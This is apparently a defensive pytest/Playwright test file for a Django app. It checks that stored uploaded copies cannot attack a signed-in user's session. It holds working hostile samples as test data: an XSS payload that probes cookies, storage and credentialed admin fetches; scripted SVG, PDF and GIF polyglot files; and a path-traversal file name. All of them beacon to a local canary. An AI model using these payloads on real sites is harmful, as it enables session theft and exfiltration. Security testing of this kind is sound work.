"""Copies that were made to attack the desk are opened by somebody who is signed in, in a real browser: nothing happens.

What an attack achieves it tells to a socket of the test, so that its own word is not needed.
"""

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings as django_settings
from django.test import Client
from playwright.sync_api import Error, sync_playwright

from claims.actions.capturing import capture_bytes
from claims.models import Capture
from claims.terms import Origin
from claims.views import originals
from tests import browser as test_browser
from tests import factories
from tests.faults.test_browser_path import Canary

pytestmark = pytest.mark.django_db(transaction=True)

ATTACKS = """<!doctype html><title>x</title><body><script>
const told = name => new Image().src = `http://127.0.0.1:{canary}/${{name}}`;
told('script');
if (document.cookie) told('cookie');
try {{ if (localStorage.setItem('x', '1') || localStorage.x) told('storage'); }} catch (e) {{}}
for (const [name, address] of Object.entries({{
    admin: '{desk}/admin/', desk: '{desk}/desk/', api: '{desk}/documents/', own: '{desk}/captures/{pk}/'
}})) fetch(address, {{credentials: 'include'}}).then(a => a.text()).then(t => t && told('read-' + name)).catch(() => 0);
fetch('{other}').then(a => a.text()).then(t => t.includes('other') && told('another-copy')).catch(() => 0);
if (window.opener) told('opener');
if (navigator.serviceWorker) navigator.serviceWorker.register(location.href).then(() => told('worker')).catch(() => 0);
try {{ if (open('{desk}/home/')) told('window'); }} catch (e) {{}}
const form = document.createElement('form');
form.action = 'http://127.0.0.1:{canary}/form'; form.method = 'post'; form.target = 'in';
const frame = document.createElement('iframe'); frame.name = 'in'; document.body.append(frame, form); form.submit();
setTimeout(() => top.location = 'http://127.0.0.1:{canary}/top', 800);
</script><img src=x onerror="told('handler')"><object data="http://127.0.0.1:{canary}/object"></object>
<meta http-equiv=refresh content="5; url=http://127.0.0.1:{canary}/refresh">"""
SVG = "<svg xmlns='http://www.w3.org/2000/svg'><script>new Image().src='http://127.0.0.1:{canary}/svg'</script></svg>"
PDF = (
    "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL"
    "\\('http://127.0.0.1:{canary}/pdf'\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    "trailer<</Root 1 0 R>>"
)
POLYGLOT = "GIF89a=1;/*" + "x" * 20 + "*/new Image().src='http://127.0.0.1:{canary}/polyglot'//"


@pytest.fixture
def canary() -> Iterator[Canary]:
    with Canary() as waiting:
        yield waiting


@pytest.fixture
def desk(live_server: Any, settings: Any, tmp_path: Path) -> str:
    """The desk's address; copies leave from another name on the same port."""
    settings.FIGURECHECK_BLOBS = tmp_path / "blobs"
    port = live_server.url.rpartition(":")[2]
    settings.FIGURECHECK_COPIES_HOST = f"copies.localhost:{port}"
    settings.ALLOWED_HOSTS = ["127.0.0.1", "localhost", "copies.localhost"]
    return f"http://127.0.0.1:{port}"


def stored(text: str, media_type: str) -> Capture:
    return capture_bytes(text.encode(), origin=Origin.FILE, media_type=media_type, file_name="../../invoice.exe")


def hostile(desk: str, canary: Canary) -> tuple[list[Capture], Client]:
    client = Client(SERVER_NAME="127.0.0.1")
    client.force_login(factories.editor())
    other = client.get(f"/captures/{stored('<p>other', 'text/html').pk}/original/")["Location"]
    words = {"canary": canary.port, "desk": desk, "pk": 1, "other": other}
    made = [
        stored(ATTACKS.format(**words), "text/html"),
        stored(SVG.format(**words), "image/svg+xml"),
        stored(PDF.format(**words), "application/pdf"),
        stored(POLYGLOT.format(**words), "image/gif"),
        stored(ATTACKS.format(**words), "application/xhtml+xml"),
        stored(ATTACKS.format(**words), "text/plain"),
    ]
    return made, client


def open_all(desk: str, copies: list[Capture], session: str, path: Path) -> list[str]:
    """A signed-in person opens each copy, in the window, in a new one and in a frame; the names of files that came."""
    names: list[str] = []
    with sync_playwright() as playwright:
        running = test_browser.launch(playwright, path)
        context = running.new_context()
        context.add_cookies([{"name": django_settings.SESSION_COOKIE_NAME, "value": session, "url": desk}])
        page = context.new_page()
        context.on("page", lambda opened: opened.on("download", lambda file: names.append(file.suggested_filename)))
        page.on("download", lambda file: names.append(file.suggested_filename))
        for copy in copies:
            address = f"{desk}/captures/{copy.pk}/original/"
            try:
                page.goto(address)
            except Error:
                pass  # "Download is starting": that is how it should end
            page.wait_for_timeout(900)
            page.goto(f"{desk}/captures/{copy.pk}/")
            page.evaluate(
                "a => { open(a); const f = document.createElement('iframe'); f.src = a; document.body.append(f) }",
                address,
            )
            page.evaluate(
                "a => { const s = document.createElement('script'); s.src = a; document.head.append(s) }", address
            )
            page.wait_for_timeout(400)
        page.wait_for_timeout(1200)
        running.close()
    return names


def opened(desk: str, canary: Canary) -> list[str]:
    path = test_browser.find()
    if path is None:
        pytest.skip("no Chromium on this machine")
    copies, client = hostile(desk, canary)
    return open_all(desk, copies, client.cookies[django_settings.SESSION_COOKIE_NAME].value, path)


def test_no_attack_of_a_copy_succeeds(desk: str, canary: Canary) -> None:
    """A source that knows that it is being checked serves the checkers something of its own."""
    names = opened(desk, canary)
    print(f"6 hostile copies, 4 ways to open each: {len(names)} files saved, {len(canary.visits)} attacks succeeded")
    assert canary.visits == []
    assert len(names) >= 6
    assert {name.partition("-")[0] for name in names} == {"copy"}, "the name is ours"
    assert not any(name.endswith(".exe") for name in names)


def test_without_the_headers_the_same_copies_do_harm(
    desk: str, canary: Canary, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The control: the same files, from the same host, served as they call themselves."""
    served = originals._copy

    def bare(token: str) -> Any:
        answer = served(token)
        del answer.headers["Content-Disposition"]
        answer.headers["Content-Type"] = "text/html" if b"<script>" in answer.content else "application/pdf"
        return answer

    monkeypatch.setattr(originals, "HEADERS", {})
    monkeypatch.setattr(originals, "_copy", bare)
    opened(desk, canary)
    reached = sorted(set(canary.visits))
    print(f"without the headers: {reached}")
    assert {"/script", "/handler", "/form"} <= set(reached)
    assert "/another-copy" in reached
    assert "/read-admin" not in reached, "another host name alone keeps the desk's pages apart"
